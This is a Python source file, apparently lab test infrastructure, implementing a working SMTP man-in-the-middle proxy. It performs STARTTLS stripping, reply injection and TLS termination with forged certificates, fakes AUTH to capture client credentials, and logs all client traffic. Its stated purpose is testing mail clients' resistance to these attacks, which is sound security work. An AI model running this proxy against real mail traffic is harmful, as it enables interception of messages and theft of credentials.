#!/usr/bin/python3
"""Man-in-the-middle SMTP proxy for the lab (test_mitm.py).

Listens where a real MX is expected (port 25 of its address) and relays each client to the
real server behind it (the lab's sink, on another port), attacking the session on the way.
The attack is chosen per client address (the test gives every device its own static
address), so one proxy serves scenarios that run at the same time:

  strip         removes STARTTLS from the EHLO reply
  refuse454     answers STARTTLS itself with 454
  inject_same   answers STARTTLS with 220 and, in the same segment, plaintext replies
  inject_later  the same, the plaintext in a later segment (after a pause)
  cert          answers STARTTLS with 220 and terminates TLS itself with the "cert" and
                "key" of the client's entry (self-signed, wrong name, another host's, or,
                for a control scenario, the genuine one)

The injections terminate TLS the same way, with the entry's certificate. After the
attack's STARTTLS the proxy speaks TLS with the client and plaintext with the
server behind it. Replies are relayed one at a time (PIPELINING and CHUNKING are removed
from EHLO replies, so clients wait for each reply). With "advertise_auth" the proxy adds
AUTH to EHLO replies and accepts any AUTH itself, so that credentials a client should
never send are seen.

Every line the client sends is logged, with the phase it came in (plain or tls), as one
JSON object per line in LOG_DIR/<client address>.jsonl, besides connection and TLS events.
The configuration (--config) is a JSON object: {"<client address>": {"attack": ...,
"cert": PEM chain, "key": PEM key, "advertise_auth": bool}, ...}. Clients not in it are
refused.
"""

import json
import socket
import ssl
import sys
import time
from pathlib import Path

from per_client_server import ClientLog, arguments, listen, serve_forever

LINE_MAX = 4096                   # longest client line the proxy reads
INJECTED = b"250-injected.mitm.test\r\n250 AUTH PLAIN\r\n"
REFUSAL_454 = b"454 4.7.0 TLS not available due to temporary reason\r\n"
READY_220 = b"220 2.0.0 Ready to start TLS\r\n"
DROPPED_EXTENSIONS = (b"PIPELINING", b"CHUNKING")


def read_line(stream):
    """One CRLF line from a buffered stream, or None at the end of the stream."""
    line = stream.readline(LINE_MAX)
    return line or None


def read_reply(stream):
    """A whole SMTP reply (all its lines) from the server behind the proxy."""
    lines = []
    while True:
        line = stream.readline(LINE_MAX)
        if not line:
            raise ConnectionError("the server behind the proxy closed")
        lines.append(line)
        if len(line) < 4 or line[3:4] != b"-":
            return lines


def join_reply(lines):
    """Reassembles reply lines after some were removed: only the last one ends with a space."""
    out = []
    for i, line in enumerate(lines):
        code, rest = line[:3], line[4:]
        out.append(code + (b" " if i == len(lines) - 1 else b"-") + rest)
    return b"".join(out)


def ehlo_reply(lines, strip_starttls, advertise_auth):
    kept = []
    for line in lines:
        keyword = line[4:].strip().split(b" ")[0].upper()
        if keyword in DROPPED_EXTENSIONS or (strip_starttls and keyword == b"STARTTLS"):
            continue
        if keyword == b"AUTH":
            continue
        kept.append(line)
    if advertise_auth and lines[0][:3] == b"250":
        kept.insert(1, b"250-AUTH PLAIN LOGIN\r\n")
    return join_reply(kept)


class Session:
    """One client connection and its own connection to the server behind the proxy."""

    def __init__(self, args, log, entry, client_sock, client, conn_id):
        self.args, self.log, self.entry = args, log, entry
        self.sock, self.client, self.conn = client_sock, client, conn_id
        self.phase = "plain"

    def note(self, **record):
        self.log.write(self.client, conn=self.conn, phase=self.phase, **record)

    def send_client(self, data):
        self.sock.sendall(data)
        self.note(event="sent", text=data[:300].decode("latin-1"))

    def run(self):
        attack = self.entry["attack"]
        up = socket.create_connection((self.args.upstream_host, self.args.upstream_port), timeout=30)
        up_in = up.makefile("rb")
        c_in = self.sock.makefile("rb")
        streams = [c_in, up_in]
        try:
            self.send_client(b"".join(read_reply(up_in)))
            while True:
                line = read_line(c_in)
                if line is None:
                    self.note(event="client_closed")
                    return
                self.note(event="client_line", text=line[:300].decode("latin-1"))
                verb = line.split(b" ")[0].strip().upper()
                if verb == b"STARTTLS":
                    if self.phase == "tls" or attack == "strip":
                        self.send_client(b"503 5.5.1 STARTTLS not offered here\r\n")
                        continue
                    if attack == "refuse454":
                        self.send_client(REFUSAL_454)
                        continue
                    c_in = self.start_tls(attack)
                    if c_in is None:
                        return
                    streams.append(c_in)
                    continue
                if verb == b"AUTH" and self.entry.get("advertise_auth"):
                    self.send_client(b"235 2.7.0 Authentication successful\r\n")
                    continue
                up.sendall(line)
                reply = read_reply(up_in)
                if verb in (b"EHLO", b"HELO"):
                    strip = attack == "strip" or self.phase == "tls"
                    self.send_client(ehlo_reply(reply, strip, self.entry.get("advertise_auth")))
                else:
                    self.send_client(b"".join(reply))
                if verb == b"DATA" and reply[-1][:3] == b"354":
                    if not self.relay_body(c_in, up, up_in):
                        return
                if verb == b"QUIT":
                    return
        finally:
            # A socket's descriptor closes only once its readers are closed too.
            for s in (*streams, up, self.sock):
                try:
                    s.close()
                except OSError:
                    pass

    def relay_body(self, c_in, up, up_in):
        lines = 0
        while True:
            line = read_line(c_in)
            if line is None:
                self.note(event="client_closed", during="data")
                return False
            up.sendall(line)
            lines += 1
            if line == b".\r\n":
                self.note(event="body", lines=lines)
                self.send_client(b"".join(read_reply(up_in)))
                return True

    def start_tls(self, attack):
        """Answers STARTTLS (with an injection if asked) and terminates TLS with the entry's
        certificate. Returns a reader on the TLS stream, or None when the handshake failed."""
        if attack == "inject_same":
            self.sock.sendall(READY_220 + INJECTED)
            self.note(event="inject", segment="same", text=(READY_220 + INJECTED).decode())
        elif attack == "inject_later":
            self.sock.sendall(READY_220)
            self.note(event="sent", text=READY_220.decode())
            time.sleep(0.3)
            self.sock.sendall(INJECTED)
            self.note(event="inject", segment="later", text=INJECTED.decode())
        else:
            self.send_client(READY_220)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(self.entry["cert"], self.entry["key"])
        try:
            self.sock.settimeout(20)
            tls = ctx.wrap_socket(self.sock, server_side=True)
        except (ssl.SSLError, OSError) as e:
            self.note(event="tls_handshake", ok=False, error=str(e)[:200])
            return None
        self.sock, self.phase = tls, "tls"
        self.sock.settimeout(None)
        self.note(event="tls_handshake", ok=True, version=tls.version(), cert=Path(self.entry["cert"]).name)
        return tls.makefile("rb")


def main():
    ap = arguments(__doc__, "JSON: client address -> attack")
    ap.add_argument("--upstream", required=True, help="HOST:PORT of the real server behind the proxy")
    args = ap.parse_args()
    args.upstream_host, port = args.upstream.rsplit(":", 1)
    args.upstream_port = int(port)
    config = json.loads(Path(args.config).read_text())
    log = ClientLog(args.log_dir)
    server = listen(args.listen, args.port)
    print(f"mitm_proxy: listening {args.listen}:{args.port}, upstream {args.upstream}, "
          f"{len(config)} clients", flush=True)

    def serve(sock, client, conn_id):
        entry = config.get(client)
        if entry is None:
            log.write("unknown", conn=conn_id, event="refused", client=client)
            sock.close()
            return
        log.write(client, conn=conn_id, phase="plain", event="connect", attack=entry["attack"])
        session = Session(args, log, entry, sock, client, conn_id)
        try:
            session.run()
        except (OSError, ConnectionError, ValueError) as e:
            session.note(event="error", error=str(e)[:200])
        session.note(event="closed")

    serve_forever(server, serve)

if __name__ == "__main__":
    sys.exit(main())
